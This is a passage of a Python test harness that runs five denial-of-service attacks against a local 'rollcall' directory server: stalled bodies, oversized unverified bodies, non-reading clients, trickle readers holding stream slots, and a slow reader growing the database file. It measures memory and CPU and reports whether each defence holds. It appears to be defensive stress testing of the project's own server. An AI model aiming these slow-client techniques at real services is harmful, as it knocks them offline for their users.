    open_now = a[S.OPEN]
    for p in probes:
        p.finish()
    cpu = attackers.stop()
    monitor.finish()
    server.stop()
    hz, w = (p.summary() for p in probes)
    verdict = not monitor.capped and monitor.peak_hwm < 200
    return dict(name="unverified body memory", defeated=verdict, load=[load0, loadavg()], metrics=[
        ["server RSS idle -> peak (VmHWM)", f"{idle:,.0f} MB -> {monitor.peak_text()}"],
        ["bodies of 1 MiB - 1 sent (all rounds) / connections open at end",
         f"{a[S.SENT]:,} ({conns:,} reached after {sent_in:.0f} s) / {open_now:,} of {conns:,}"],
        ["attacker connects / answers 503 / 408 / 413 / 401 / closed without answer",
         f"{a[S.CONNECTS]:,} / {a[S.S503]:,} / {a[S.S408]:,} / {a[S.S413]:,} / {a[S.S401]:,} / {a[S.EOF] + a[S.RESET]:,}"],
        ["/healthz every second during the hold", f"max {hz['max_s']:.2f} s, {hz['timeouts']} of {hz['probes']} timed out"],
        ["a genuine signed webhook every second (not part of the verdict)", f"{w['ok']} of {w['probes']} accepted ({w['codes']})"],
        ["attacker CPU", f"{cpu:.1f} s"],
    ])


def attack_filtered_lists(ctx):
    sc, args = ctx.scale, ctx.args
    d = ctx.fresh("filtered")
    users = sc["a3_users"]
    data, _, took = ctx.dataset(d, users)
    server = Server(ctx.binary, data, d, ctx.jwks)
    load0 = loadavg()
    idle = server.rss_mb()
    n = sc["a3_clients"]
    base = f"/api/directories/{server.directory_id(ctx.token_a, DIR_A_WORKOS)}/users"
    paths = [f"{base}?after={NIL}" if i % 2 == 0 else f"{base}?state=active" for i in range(n)]
    attackers = Attackers("non_reading_clients", server.port, paths, ctx.token_a)
    monitor = Monitor(server, args.rss_cap_mb, attackers.stop, spool=True)
    monitor.start()
    t0 = time.time()
    attackers.wait_for(S.HEADS, n, 300)
    heads_in = time.time() - t0
    deadline = time.time() + sc["a3_hold"]
    while time.time() < deadline and not monitor.capped:
        time.sleep(0.2)
    a = attackers
    statuses = f"{a[S.S200]} x 200, {a[S.S503]} x 503, {a[S.S_OTHER]} other, {a[S.EOF] + a[S.FAILED]} failed"
    attackers.stop()
    monitor.finish()
    # 50 HEADs with a filter, one after the other on one connection.
    time.sleep(1)
    heads = sc["a3_heads"]
    cpu0, w0 = cpu_secs(server.pid), time.monotonic()
    head_status = {}
    c = http.client.HTTPConnection("127.0.0.1", server.port, timeout=120)
    try:
        for _ in range(heads):
            c.request("HEAD", f"{base}?state=active", headers={"Authorization": f"Bearer {ctx.token_a}"})
            r = c.getresponse()
            r.read()
            head_status[r.status] = head_status.get(r.status, 0) + 1
    except (OSError, http.client.HTTPException) as e:
        head_status[type(e).__name__] = 1
    finally:
        c.close()
    head_cpu, head_wall = cpu_secs(server.pid) - cpu0, time.monotonic() - w0
    server.stop()
    verdict = not monitor.capped and monitor.peak_hwm < 200 and head_cpu < 1.0
    return dict(name="filtered lists pin memory", defeated=verdict, load=[load0, loadavg()], metrics=[
        ["directory", f"{users:,} users (import {took:.1f} s)"],
        [f"{n} non-reading clients: answers", f"{statuses}; all heads in {heads_in:.1f} s"],
        ["server RSS idle -> peak (VmHWM)", f"{idle:,.0f} MB -> {monitor.peak_text()}"],
        ["spooled bodies on disk, peak", f"{monitor.peak_spool / MiB:,.0f} MB"],
        [f"{heads} HEAD ?state=active: server CPU", f"{head_cpu:.2f} s ({head_cpu / heads * 1000:.0f} ms each); "
                                                   f"wall {head_wall:.1f} s; statuses {head_status}"],
    ])


def attack_stream_slots(ctx):
    sc, args = ctx.scale, ctx.args
    d = ctx.fresh("slots")
    ua, ub = sc["a4_users"], sc["a4_other"]
    data, _, _ = ctx.dataset(d, ua, other=ub)
    server = Server(ctx.binary, data, d, ctx.jwks, ["--stream-threshold", str(sc["a4_threshold"])])
    load0 = loadavg()
    n = sc["a4_streams"]
    dir_a, dir_b = server.directory_id(ctx.token_a, DIR_A_WORKOS), server.directory_id(ctx.token_b, DIR_B_WORKOS)
    attackers = Attackers("trickle_readers", server.port, n, f"/api/directories/{dir_a}/users", ctx.token_a,
                          100_000, 16384)
    monitor = Monitor(server, args.rss_cap_mb, attackers.stop)
    monitor.start()
    time.sleep(3)
    first_heads = attackers[S.S200]
    timeout = sc["a4_timeout"]
    ttfb, total, status, body = fetch_whole(server.port, f"/api/directories/{dir_b}/users", ctx.token_b, timeout)
    got = list_length(body) if body is not None else None
    # A's streams trickle on until 25 s (a 503 comes after the slot wait, a
    # cut after the minimum-rate window), then read what is left as fast as
    # they can: a cut stream ends short of its length.
    time.sleep(max(0.0, 25 - (3 + (total or timeout))))
    a = attackers
    streaming, refused, other = a[S.S200], a[S.S503], a[S.S_OTHER]
    attackers.stats[S.DRAIN] = 1
    attackers.wait_for(S.FINISHED, n, 40)
    trickle = (f"{streaming} streaming ({first_heads} within 3 s), {refused} refused 503, {other} other, "
               f"{n - a[S.HEADS]} still waiting; of the streams {a[S.CUT]} cut short, {a[S.DONE]} read whole, "
               f"{a[S.UNFINISHED]} still going; {a[S.BYTES] / MiB:,.0f} MB read")
    attackers.stop()
    monitor.finish()
    server.stop()
    complete = status == 200 and got == ub
    verdict = complete and total is not None and total < 10
    if total is None:
        b_text = f"no complete answer within {timeout} s (first byte: {secs(ttfb)})"
    else:
        b_text = f"status {status}, {got if got is not None else 'unparsable'} of {ub:,} users; first byte {secs(ttfb)}, whole list {secs(total)}"
    return dict(name="one organization blocks another", defeated=verdict, load=[load0, loadavg()], metrics=[
        ["directories", f"A {ua:,} users, B {ub:,} users, --stream-threshold {sc['a4_threshold']:,}"],
        ["B's full list while A's streams trickle", b_text],
        [f"A's {n} trickle streams (~100 KB/s each)", trickle],
        ["server peak RSS", monitor.peak_text()],
    ])


def attack_file_growth(ctx):
    sc, args = ctx.scale, ctx.args
    d = ctx.fresh("growth")
    users, updates = sc["a5_users"], sc["a5_updates"]
    data, files, took = ctx.dataset(d, users)
    size = lambda: os.stat(data).st_size / 1e6
    imported = size()
    extra = ["--stream-threshold", str(sc["a5_threshold"])]
    if ctx.min_rate_flag:
        extra += ["--min-stream-rate-kib", "0"]
    server = Server(ctx.binary, data, d, ctx.jwks, extra)
    dir_a = server.directory_id(ctx.token_a, DIR_A_WORKOS)
    load0 = loadavg()
    monitor = Monitor(server, args.rss_cap_mb, lambda: None)
    monitor.start()
    run_tag = "%06d" % random.randrange(10 ** 6)
    phases = []
    reader = None
    try:
        for phase in range(2):
            if phase == 1:
                reader = Attackers("trickle_readers", server.port, 1, f"/api/directories/{dir_a}/users",
                                   ctx.token_a, 30_000, 8192)
                reader.wait_for(S.HEADS, 1, 60)
                time.sleep(5)
            t0 = time.time()
            senders = Attackers("signed_updates", server.port, files[0], phase * updates, updates, 32, run_tag)
            deadline = time.time() + 480
            while senders.alive() and time.time() < deadline:
                time.sleep(0.2)
            took_s = time.time() - t0
            cpu = senders.stop()
            phases.append(dict(size=size(), took=took_s, applied=senders[S.APPLIED], ok=senders[S.S200],
                               other=senders[S.OTHER_OUTCOME], failed=updates - senders[S.DONE],
                               cpu=cpu))
        reader_state = (f"{reader[S.S200]} x 200, {reader[S.BYTES] / 1e6:.1f} MB read, "
                        + ("still connected" if reader[S.OPEN] == 1 else f"gone (cut {reader[S.CUT]})"))
    finally:
        if reader is not None:
            reader.stop()
        monitor.finish()
        server.stop()
    g1, g2 = phases[0]["size"] - imported, phases[1]["size"] - phases[0]["size"]
    verdict = phases[1]["size"] < phases[0]["size"] * 1.25 and all(p["failed"] == 0 for p in phases)
    ph = lambda p: (f"{p['size']:,.0f} MB; {p['applied']:,} applied ({p['other']:,} other 200s, {p['failed']:,} failed) "
                    f"in {p['took']:.1f} s = {updates / p['took']:,.0f}/s")
    return dict(name="slow reader grows the file", defeated=verdict, load=[load0, loadavg()], metrics=[
        ["directory", f"{users:,} users (import {took:.1f} s); --min-stream-rate-kib 0: {'yes' if ctx.min_rate_flag else 'not known to this binary'}"],
        ["file after import", f"{imported:,.0f} MB"],
        [f"after {updates:,} updates, no reader", ph(phases[0]) + f" (+{g1:,.0f} MB)"],
        [f"after {updates:,} more, one reader at ~30 KB/s", ph(phases[1]) + f" (+{g2:,.0f} MB)"],
        ["the slow reader", reader_state],
        ["server peak RSS", monitor.peak_text()],
    ])


ATTACKS = {1: attack_stalled_bodies, 2: attack_body_memory, 3: attack_filtered_lists, 4: attack_stream_slots,
           5: attack_file_growth}


# ---------------------------------------------------------------------------

def print_table(results):
    print("\n| attack | measure | value |\n| --- | --- | --- |")
    for r in results:
        for i, (label, value) in enumerate(r["metrics"]):
            head = f"{r['id']}. {r['name']}" if i == 0 else ""
            print(f"| {head} | {label} | {value} |")
        print(f"| | defeated | {'yes' if r['defeated'] else 'NO'} (loadavg {r['load'][0]} -> {r['load'][1]}) |")


def compare(paths):
    runs = []
    for p in paths:
        with open(p) as f:
            runs.append(json.load(f))
    labels = [r["label"] for r in runs]
    print("| attack | measure | " + " | ".join(labels) + " |")
    print("| --- | --- | " + " | ".join("---" for _ in labels) + " |")
    ids = sorted({int(k) for r in runs for k in r["attacks"]})
    for i in ids:
        per = [r["attacks"].get(str(i)) for r in runs]
        first = next(p for p in per if p)
        for j, (label, _) in enumerate(first["metrics"]):
            cells = []
            for p in per:
                m = dict((k, v) for k, v in p["metrics"]) if p else {}
                cells.append(m.get(label, ""))
            head = f"{i}. {first['name']}" if j == 0 else ""
            print(f"| {head} | {label} | " + " | ".join(cells) + " |")
        print("| | defeated | " + " | ".join(("yes" if p["defeated"] else "NO") if p else "" for p in per) + " |")
        print("| | loadavg (start -> end) | " + " | ".join(f"{p['load'][0]} -> {p['load'][1]}" if p else "" for p in per) + " |")


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--binary", help="the rollcall binary to attack")
    ap.add_argument("--dataset-binary", help="examples/dataset (default: next to --binary, then this tree's release build)")
    ap.add_argument("--only", default="1,2,3,4,5", help="attacks to run, e.g. 1,3")
    ap.add_argument("--scale", choices=sorted(SCALES), default="full")
    ap.add_argument("--set", action="append", default=[], metavar="KEY=N",
                    help="override one number of the scale, e.g. --set a1_conns=300 (keys: those of SCALES)")
    ap.add_argument("--reconnect-delay", type=float, default=1.0,
                    help="seconds before a stalled-body attacker reopens a connection the server closed")
    ap.add_argument("--rss-cap-mb", type=float, default=4096, help="stop an attack once the server's RSS passes this")
    ap.add_argument("--json", help="also write the results here (for --compare); a run adds its attacks to the file")
    ap.add_argument("--label", help="name of this run in --compare (default: the binary's path)")
    ap.add_argument("--keep", action="store_true", help="keep the temporary folder (databases, server logs)")
    ap.add_argument("--compare", nargs="+", metavar="JSON", help="print the results of earlier runs side by side")
    args = ap.parse_args()
    if args.compare:
        return compare(args.compare)
    if not args.binary:
        ap.error("--binary is required")
    args.binary = os.path.abspath(args.binary)
    if not args.dataset_binary:
        for cand in (os.path.join(os.path.dirname(args.binary), "examples", "dataset"),
                     os.path.join(ROOT, "target", "release", "examples", "dataset")):
            if os.path.exists(cand):
                args.dataset_binary = cand
                break
        else:
            ap.error("no examples/dataset found: pass --dataset-binary")
    if not shutil.which("openssl"):
        raise SystemExit("openssl is required (to sign the RS256 tokens)")
    only = [int(x) for x in args.only.split(",") if x]
    for kv in args.set:
        key, _, value = kv.partition("=")
        if key not in SCALES[args.scale]:
            ap.error(f"--set {kv}: no such number (one of {', '.join(SCALES[args.scale])})")
        SCALES[args.scale][key] = int(value)
    hard = raise_nofile()
    if 1 in only and hard < SCALES[args.scale]["a1_conns"] + 200:
        raise SystemExit(f"attack 1 needs an open-file limit over {SCALES[args.scale]['a1_conns'] + 200} (hard limit {hard})")

    def on_signal(signum, _frame):
        raise KeyboardInterrupt

    signal.signal(signal.SIGTERM, on_signal)
    work = tempfile.mkdtemp(prefix="rollcall-attack-")
    results = []
    print(f"attacking {args.binary} ({args.scale} scale), loadavg {loadavg()}, work folder {work}", file=sys.stderr)
    try:
        ctx = Ctx(args, work)
        for i in only:
            t0 = time.time()
            try:
                r = ATTACKS[i](ctx)
            except Exception:
                traceback.print_exc()
                print(f"[{i}] failed: see above", flush=True)
                kill_everything()
                continue
            r["id"] = i
            r["seconds"] = round(time.time() - t0, 1)
            results.append(r)
            line = "; ".join(f"{k}: {v}" for k, v in r["metrics"])
            print(f"[{i}] {r['name']}: {line} -> {'defeated' if r['defeated'] else 'NOT defeated'} "
                  f"({r['seconds']:.0f} s, loadavg {r['load'][0]} -> {r['load'][1]})", flush=True)
    except KeyboardInterrupt:
        print("interrupted", file=sys.stderr)
    finally:
        kill_everything()
        if args.keep:
            print(f"kept {work}", file=sys.stderr)
        else:
            shutil.rmtree(work, ignore_errors=True)
    if results:
        print_table(results)
    if args.json and results:
        # Runs of single attacks into the same file add up.
        saved = dict(label=args.label or args.binary, binary=args.binary, scale=args.scale, attacks={})
        if os.path.exists(args.json):
            with open(args.json) as f:
                saved["attacks"] = json.load(f).get("attacks", {})
        saved["attacks"].update({str(r["id"]): r for r in results})
        with open(args.json, "w") as f:
            json.dump(saved, f, indent=1)


if __name__ == "__main__":
    main()
